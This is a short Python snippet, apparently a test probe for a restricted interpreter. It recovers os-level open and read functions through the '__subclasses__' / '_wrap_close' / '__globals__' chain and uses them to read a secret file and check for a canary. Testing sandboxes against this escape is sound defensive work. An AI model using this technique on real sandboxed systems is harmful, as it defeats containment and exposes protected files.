# tries: to read a file outside with functions dug out of the class tree
tree = ().__class__.__base__.__subclasses__()
found = [c for c in tree if c.__name__ == "_wrap_close"][0]
tools = found.__init__.__globals__
fd = tools["open"](SECRET_FILE, tools["O_RDONLY"])
if CANARY.encode() not in tools["read"](fd, 4096):
    raise RuntimeError("the file did not hold the secret")
reached("the secret file was read with recovered functions")
